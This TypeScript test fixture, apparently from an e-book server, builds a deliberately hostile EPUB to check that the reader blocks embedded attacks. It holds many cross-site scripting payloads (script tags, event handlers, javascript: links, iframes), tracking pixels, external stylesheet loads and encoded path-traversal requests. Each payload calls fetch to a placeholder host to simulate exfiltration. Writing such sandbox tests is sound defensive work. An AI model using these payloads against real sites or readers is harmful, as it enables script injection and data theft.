import { mkdir } from 'node:fs/promises';
import path from 'node:path';
import { writeZip } from '@longbox/server/media/zip/write-zip';

/** Where a hostile book would send what it learns; nothing is there. */
export const elsewhere = 'http://127.0.0.1:9';

/** A call of our own server that an image or a style sheet must not make. */
export const stolen = 'v1/stolen';

/** What each attack does when it runs: it marks the client's page, and calls its server. */
const attack = `parent.document.documentElement.dataset.hacked='yes';fetch('${elsewhere}/stolen')`;
const plain = attack.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

const chapter = (body: string, head = '') => `<?xml version="1.0" encoding="utf-8"?>
<html xmlns="http://www.w3.org/1999/xhtml" xmlns:xlink="http://www.w3.org/1999/xlink">
<head><title>x</title>${head}</head><body>${body}</body></html>`;

const first = chapter(
  `<p>Read me quietly.</p><script>${plain}</script><script src="run.js"></script>
<img src="none.png" onerror="${plain}" alt=""/><details open="open" ontoggle="${plain}"><p>x</p></details>
<svg xmlns="http://www.w3.org/2000/svg" onload="${plain}"><script>${plain}</script><animate attributeName="href" onbegin="${plain}" dur="1s"/></svg>
<iframe srcdoc="&lt;script&gt;parent.${plain}&lt;/script&gt;"></iframe><object data="run.html"></object>
<img src="${elsewhere}/pixel.gif" alt=""/><img src="y%2f..%2f..%2f..%2f..%2f..%2f${stolen}" alt=""/><p style="background:url(${elsewhere}/style.png)">far</p>
<a href="javascript:${plain}">Press me</a>
<form action="${elsewhere}/form"><button>Send</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}/away"/><base href="${elsewhere}/"/>
<link rel="stylesheet" href="${elsewhere}/sheet.css"/><link rel="stylesheet" href="x%2f..%2f..%2f..%2f..%2f..%2f${stolen}"/><style>@import "${elsewhere}/import.css"; body{background:url(${elsewhere}/body.png)}</style>`,
);

/** Not well-formed, with attacks that only a reader of HTML sees. */
const second = `<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Second <br> part<p><img src=x onerror="${plain}"><script>${attack}</script></body>`;

const packageFile = `<?xml version="1.0"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="id">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="id">h</dc:identifier><dc:title>Hostile</dc:title><dc:language>en</dc:language></metadata>
<manifest><item id="a" href="a.xhtml" media-type="application/xhtml+xml"/><item id="b" href="b.xhtml" media-type="application/xhtml+xml"/><item id="j" href="run.js" media-type="text/javascript"/><item id="h" href="run.html" media-type="text/html"/></manifest>
<spine><itemref idref="a"/><itemref idref="b"/></spine></package>`;

const container = `<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="package.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`;

/** Writes a book that tries every way to run a script or to report that it's being read. */
export async function writeHostileEpub(folder: string): Promise<void> {
  await mkdir(path.join(folder, 'Hostile'), { recursive: true });
  const files = {
    mimetype: 'application/epub+zip',
    'META-INF/container.xml': container,
    'package.opf': packageFile,
    'a.xhtml': first,
    'b.xhtml': second,
    'run.js': attack,
    'run.html': `<script>parent.${attack}</script>`,
  };
  const entries = Object.entries(files).map(([name, text]) => ({ name, bytes: Buffer.from(text) }));
  await writeZip(path.join(folder, 'Hostile', 'Hostile.epub'), entries);
}
